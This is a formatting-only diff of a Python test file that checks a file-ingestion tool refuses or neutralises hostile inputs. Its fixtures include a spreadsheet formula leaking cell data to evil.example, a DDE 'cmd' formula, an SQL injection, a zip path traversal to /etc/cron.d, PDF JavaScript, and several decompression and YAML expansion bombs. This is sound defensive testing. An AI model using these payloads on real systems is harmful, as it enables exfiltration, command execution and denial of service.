@@ -1,4 +1,6 @@
-"""Hostile files and folders that are added: bounded, refused by name or read as data; nothing half-registered, nothing written elsewhere."""
+"""Hostile files and folders that are added: bounded, refused by name or read as data; nothing half-registered, nothing
+written elsewhere.
+"""
 
 from __future__ import annotations
 
@@ -60,7 +62,12 @@ def formulas() -> bytes:
     book = Workbook()
     sheet = book.active
     assert sheet is not None
-    for row in (["Name", "Value"], ['=HYPERLINK("http://evil.example/?"&A1)', 5], ["=cmd|'/c calc'!A1", 7], ["'; DROP TABLE sheets; --", 9]):
+    for row in (
+        ["Name", "Value"],
+        ['=HYPERLINK("http://evil.example/?"&A1)', 5],
+        ["=cmd|'/c calc'!A1", 7],
+        ["'; DROP TABLE sheets; --", 9],
+    ):
         sheet.append(row)
     target = io.BytesIO()
     book.save(target)
@@ -70,22 +77,40 @@ def formulas() -> bytes:
 def with_script() -> bytes:
     page = Page()
     page.text(72, 700, "Acme Annual report for the year ended December 31, 2023")
-    return pdf(page).replace(b"<< /Type /Catalog", b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Type /Catalog")
+    return pdf(page).replace(
+        b"<< /Type /Catalog", b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Type /Catalog"
+    )
 
 
 HOSTILE = {
     "a bomb.xlsx": (bomb, REFUSED),
     "ten thousand sheets.xls": (lambda: xls({f"S{n}": [["a", 1]] for n in range(10_000)}), REFUSED),
     "too many sheets.xlsx": (lambda: many_sheets(1_200), REFUSED),
-    "traversal.xlsx": (lambda: zipped({"../../../etc/cron.d/evil": b"x", "xl/workbook.xml": b"<workbook/>", "[Content_Types].xml": b"<Types/>"}), REFUSED),
+    "traversal.xlsx": (
+        lambda: zipped(
+            {"../../../etc/cron.d/evil": b"x", "xl/workbook.xml": b"<workbook/>", "[Content_Types].xml": b"<Types/>"}
+        ),
+        REFUSED,
+    ),
     "an archive.pdf": (lambda: zipped({"a.txt": b"x"}), REFUSED),
     "malformed.pdf": (
-        lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\nxref\n0 99999999\ntrailer << /Root 1 0 R /Size 99999999 >>",
+        lambda: (
+            b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\nxref\n0 99999999\ntrailer << /Root 1 0 R "
+            b"/Size 99999999 >>"
+        ),
         REFUSED,
     ),
     "nested.json": (lambda: b"[" * 100_000, REFUSED),
     "nothing.csv": (lambda: b" \n\n", REFUSED),
-    "noise.xls": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + b"\0\0" + random.Random(1).randbytes(9000), REFUSED),
+    "noise.xls": (
+        lambda: (
+            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+            + "Workbook".encode("utf-16-le")
+            + b"\0\0"
+            + random.Random(1).randbytes(9000)
+        ),
+        REFUSED,
+    ),
     "never closed.csv": (lambda: b'a,b\n"' + b"x" * 2_000_000, REFUSED),
     "a script.pdf": (with_script, ADDED),
 }
@@ -135,7 +160,11 @@ def test_links_that_lead_out_of_a_folder_and_round_in_it_are_passed_over(place: 
     os.mkfifo(folder / "pipe.csv")
     (folder / "balance.csv").write_text(BALANCE + "\n")
     found = registered(folder)
-    assert {name: file.status for name, file in found.items()} == {"balance.csv": ADDED, "pipe.csv": REFUSED, "broken.csv": REFUSED}
+    assert {name: file.status for name, file in found.items()} == {
+        "balance.csv": ADDED,
+        "pipe.csv": REFUSED,
+        "broken.csv": REFUSED,
+    }
 
 
 def test_names_of_files_and_folders_command_nothing(place: Place) -> None:
@@ -147,7 +176,11 @@ def test_names_of_files_and_folders_command_nothing(place: Place) -> None:
     assert not set("\x1b\x07\n") & set(file_line(found))
     written = [path for path in place.folder.rglob("*.json") if "library" in path.parts]
     assert written and all(path.is_relative_to(place.data) for path in written)
-    assert all(part.replace("=", "").replace("-", "").replace(".", "").isalnum() for path in written for part in path.relative_to(place.data).parts)
+    assert all(
+        part.replace("=", "").replace("-", "").replace(".", "").isalnum()
+        for path in written
+        for part in path.relative_to(place.data).parts
+    )
 
 
 @pytest.mark.parametrize("key", ["../../etc", "a/b", "..", ".hidden", "A" * 40, "A B", "a\0b"])
@@ -160,7 +193,10 @@ def test_a_sidecar_that_grows_when_it_is_read_is_refused(place: Place) -> None:
     folder = place.folder / "Acme"
     folder.mkdir()
     (folder / "balance.csv").write_text(BALANCE)
-    layers = ["a: &a [x, x, x, x, x, x, x, x, x]", *(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]" for n in range(12))]
+    layers = [
+        "a: &a [x, x, x, x, x, x, x, x, x]",
+        *(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 9)}]" for n in range(12)),
+    ]
     (folder / NAME).write_text("\n".join([*layers, "files: {balance.csv: {company: *m}}"]))
     started = time.process_time()
     with pytest.raises(ConfigError, match="no single value"):
